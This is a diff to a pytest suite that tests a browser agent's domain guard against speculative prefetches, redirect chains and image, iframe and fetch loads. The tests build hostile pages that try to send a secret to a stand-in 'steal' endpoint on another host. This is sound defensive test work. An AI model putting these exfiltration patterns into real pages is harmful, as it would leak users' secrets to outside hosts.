@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import json
 import urllib.parse
+from collections.abc import Callable
 
 import pytest
 from _server import Request, Response
@@ -159,6 +160,29 @@ UNREACHED = {
 }
 
 
+def _sentinel_js(hops, server) -> str:
+    """Script adding the sentinel: a rule set the remover cannot reach (a closed shadow root)
+    prefetching an allowed chain of 4 hops ending at ``/sentinel``. When it arrives, the browser
+    has had every rule set the page inserted before it and followed a prefetch's redirects."""
+    rules = json.dumps({"prefetch": [{"source": "list", "urls": [hops["chain"](4, server.url("sentinel"))]}]})
+    return ("{ const s = document.createElement('script'); s.type = 'speculationrules';"
+            f" s.text = {json.dumps(rules)}; const host = document.createElement('div'); document.documentElement.append(host);"
+            " host.attachShadow({mode: 'closed'}).append(s); }")
+
+
+@pytest.fixture
+def sentinel(server):
+    """The requests ``/sentinel`` received."""
+    arrived: list[str] = []
+
+    def record(req: Request) -> Response:
+        arrived.append(req.path)
+        return Response.html("<title>sentinel</title>")
+
+    with server.route("/sentinel", record):
+        yield arrived
+
+
 @pytest.fixture
 def speculation_site(server, cross_server):
     """``site(delivery)``: the address of a page (on the allowed host) whose speculation rules ask
@@ -188,16 +212,27 @@ def speculation_site(server, cross_server):
         yield lambda delivery: (server.url("speculate?d=" + delivery), hits)
 
 
-async def _speculate(page, url: str, hits: list[str], guard: DomainGuard, *, until_recorded: bool = True) -> None:
-    """Open ``url`` and wait (generously) until the hostile host was reached or, with
-    ``until_recorded``, the guard recorded the attempt; then a little longer: a prefetch the guard
-    let through would follow at once."""
+async def _speculate(page, url: str, until: Callable[[], bool], *, sentinel_after: Callable[[], bool] | None = None,
+                     sentinel_js: str = "") -> None:
+    """Open ``url`` and wait (generously) until ``until()``: for a control, that the hostile host
+    got what it asserts; for a guarded case, the sentinel's arrival, ``sentinel_js`` being
+    inserted once ``sentinel_after()`` (the guard recorded the attempt): a prefetch the guard let
+    through would reach the hostile host before the sentinel's chain ends."""
     await page.goto(url)
+    added = False
     for _ in range(120):
-        if hits or (until_recorded and any(b.kind == "speculation" for b in guard.blocked)):
-            break
+        if until():
+            return
+        if sentinel_after is not None and not added and sentinel_after():
+            # Into the newest page: a popup the page opened is the visible one (a hidden page's
+            # rules wait), and holds the rules the opener wrote.
+            await page.context.pages[-1].evaluate(sentinel_js)
+            added = True
         await page.wait_for_timeout(250)
-    await page.wait_for_timeout(2000)
+
+
+def _speculation_recorded(guard: DomainGuard) -> Callable[[], bool]:
+    return lambda: any(b.kind == "speculation" for b in guard.blocked)
 
 
 async def _speculation_guard(page, server, how: str, monkeypatch) -> DomainGuard:
@@ -214,16 +249,21 @@ async def _speculation_guard(page, server, how: str, monkeypatch) -> DomainGuard
 
 @pytest.mark.parametrize("how", ["guarded", "control-without-remover", "control-unguarded"])
 @pytest.mark.parametrize("delivery", list(DELIVERIES))
-async def test_a_speculative_prefetch_never_reaches_another_host(page, server, cross_server, speculation_site,
-                                                                 monkeypatch, delivery: str, how: str) -> None:
+async def test_a_speculative_prefetch_never_reaches_another_host(page, server, cross_server, speculation_site, hops,
+                                                                 sentinel, monkeypatch, delivery: str, how: str) -> None:
     url, hits = speculation_site(delivery)
     guard = await _speculation_guard(page, server, how, monkeypatch)
     try:
-        await _speculate(page, url, hits, guard, until_recorded=how == "guarded")
+        if how == "guarded":
+            await _speculate(page, url, lambda: bool(sentinel), sentinel_after=_speculation_recorded(guard),
+                             sentinel_js=_sentinel_js(hops, server))
+        else:
+            await _speculate(page, url, lambda: "/dyn?v=prefetch" in hits)
     finally:
         await guard.uninstall()
     recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
     if how == "guarded":
+        assert sentinel  # the wait ended on the sentinel, not on the bound
         assert hits == []
         if delivery == "header":
             assert recorded == {("speculation", "speculation-rules header", server.url("rules.json"))}
@@ -240,7 +280,7 @@ async def test_a_speculative_prefetch_never_reaches_another_host(page, server, c
 @pytest.mark.parametrize("how", ["guarded", "control-without-remover"])
 @pytest.mark.parametrize("delivery", ["inline", "closed-shadow-root"])
 async def test_a_prefetch_of_an_allowed_address_redirecting_elsewhere_never_arrives(page, server, cross_server, hostile,
-                                                                                  hops, monkeypatch, delivery: str,
+                                                                                  hops, sentinel, monkeypatch, delivery: str,
                                                                                   how: str) -> None:
     """The browser follows a prefetch's redirects itself: an allowed address that answers 302 to
     the hostile host is as good as the hostile address (measured: without the remover it arrives
@@ -249,17 +289,19 @@ async def test_a_prefetch_of_an_allowed_address_redirecting_elsewhere_never_arri
     (measured: nothing arrives)."""
     rules = json.dumps({"prefetch": [{"source": "list", "urls": [hops["chain"](1, cross_server.url("steal"))]}]})
     markup = {**DELIVERIES, **UNREACHED}[delivery].format(rules=rules, rules_js=json.dumps(rules))
-    page_html = f"<!doctype html><title>Speculation</title>{markup}"
+    # The sentinel: after the attack's rules, a rule set the remover cannot reach (a closed shadow
+    # root) prefetching an allowed chain three hops longer than the attack's. Its arrival shows the
+    # browser has had the page's rules and followed the redirects of a prefetch listed after the
+    # attack's (the guarded case waits for it, not for the hostile host to stay quiet 15 s).
+    page_html = f"<!doctype html><title>Speculation</title>{markup}<script>{_sentinel_js(hops, server)}</script>"
+    arrived = sentinel
     with server.route("/allowed-rules", lambda req: Response.html(page_html)):
         guard = await _speculation_guard(page, server, how, monkeypatch)
         try:
-            await page.goto(server.url("allowed-rules"))
-            for _ in range(60):
-                if hostile:
-                    break
-                await page.wait_for_timeout(250)
+            await _speculate(page, server.url("allowed-rules"), lambda: bool(hostile or (how == "guarded" and arrived)))
         finally:
             await guard.uninstall()
+    assert arrived or how != "guarded"  # the guarded case ended on the sentinel, not on the bound
     if how == "guarded":
         assert hostile == []
         if delivery == "inline":
@@ -281,8 +323,8 @@ async def test_the_page_keeps_its_rules_once_the_guard_is_gone(page, server, spe
 
 @pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
 @pytest.mark.parametrize("delivery", list(UNREACHED))
-async def test_rules_the_remover_cannot_reach(page, server, cross_server, speculation_site, monkeypatch, caplog,
-                                              delivery: str, how: str) -> None:
+async def test_rules_the_remover_cannot_reach(page, server, cross_server, speculation_site, hops, sentinel, monkeypatch,
+                                              caplog, delivery: str, how: str) -> None:
     """Rules in a shadow root or written by an opener into a new window: the document's
     ``Connection-Allowlist`` makes the browser refuse the prefetch; the attempt is recorded from
     the browser's ``Preload`` events either way. The control is the guard on a browser that does
@@ -294,14 +336,21 @@ async def test_rules_the_remover_cannot_reach(page, server, cross_server, specul
     if how != "guarded":
         monkeypatch.setattr(_domains, "allowlist_enforced", lambda version: False)
     guard = await _guard(page, server, "guarded")
+    prefetch = ("speculation", "prefetch", cross_server.url("dyn?v=prefetch"))
     try:
-        await _speculate(page, url, hits, guard, until_recorded=how == "guarded")
+        if how == "guarded":
+            await _speculate(page, url, lambda: bool(sentinel), sentinel_after=_speculation_recorded(guard),
+                             sentinel_js=_sentinel_js(hops, server))
+        else:
+            await _speculate(page, url, lambda: "/dyn?v=prefetch" in hits and prefetch in {
+                (b.kind, b.resource_type, b.url) for b in guard.blocked})
     finally:
         await guard.uninstall()
     recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
-    assert ("speculation", "prefetch", cross_server.url("dyn?v=prefetch")) in recorded
+    assert prefetch in recorded
     warned = [r.getMessage() for r in caplog.records if "does not enforce Connection-Allowlist" in r.getMessage()]
     if how == "guarded":
+        assert sentinel  # the wait ended on the sentinel, not on the bound
         assert hits == []
         assert warned == []
     else:
@@ -311,7 +360,7 @@ async def test_rules_the_remover_cannot_reach(page, server, cross_server, specul
 
 @pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
 async def test_a_document_reached_through_redirects_gets_the_header_too(page, server, cross_server, speculation_site,
-                                                                       hops, monkeypatch, how: str) -> None:
+                                                                       hops, sentinel, monkeypatch, how: str) -> None:
     """The route sees only a chain's first hop; the document at its end gets its header from the
     guard's browser-level interception."""
     from stagehand_py.agent import _domains
@@ -321,11 +370,16 @@ async def test_a_document_reached_through_redirects_gets_the_header_too(page, se
         monkeypatch.setattr(_domains, "ALLOWLIST_HEADER", "x-no-such-header")
     guard = await _guard(page, server, "guarded")
     try:
-        await _speculate(page, hops["chain"](2, url), hits, guard, until_recorded=how == "guarded")
+        if how == "guarded":
+            await _speculate(page, hops["chain"](2, url), lambda: bool(sentinel),
+                             sentinel_after=_speculation_recorded(guard), sentinel_js=_sentinel_js(hops, server))
+        else:
+            await _speculate(page, hops["chain"](2, url), lambda: "/dyn?v=prefetch" in hits)
     finally:
         await guard.uninstall()
     assert page.url == url
     if how == "guarded":
+        assert sentinel  # the wait ended on the sentinel, not on the bound
         assert hits == []
     else:
         assert "/dyn?v=prefetch" in hits  # the control: the header renamed, the browser ignores it
@@ -396,8 +450,12 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
     from stagehand_py._secrets import redact_text
 
     steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
+    # window.settled: all three loads ended (each fails or arrives); the event the test waits for,
+    # after which nothing more can reach the hostile host.
     html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
-            f"<script>fetch('{steal}&fetch').catch(() => 0);</script>")
+            "<script>const ended = (el) => new Promise((done) => { el.onload = el.onerror = done; });"
+            " window.settled = Promise.all([ended(document.querySelector('img')), ended(document.querySelector('iframe')),"
+            f" fetch('{steal}&fetch').catch(() => 0)]).then(() => true);</script>")
     if how != "guarded":
         monkeypatch.setattr(DomainGuard, "_on_request_failed", lambda self, request: None)
         monkeypatch.setattr(DomainGuard, "_on_error_page", lambda self, page, frame: None)
@@ -406,11 +464,11 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
     try:
         with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
             await page.goto(server.url("refused"))
-            for _ in range(80):
+            assert await page.evaluate("window.settled")
+            for _ in range(80 if how == "guarded" else 0):  # the records come as browser events
                 if len(guard.blocked) >= 3:
                     break
                 await page.wait_for_timeout(250)
-            await page.wait_for_timeout(1000)
     finally:
         await guard.uninstall()
     assert hostile == []
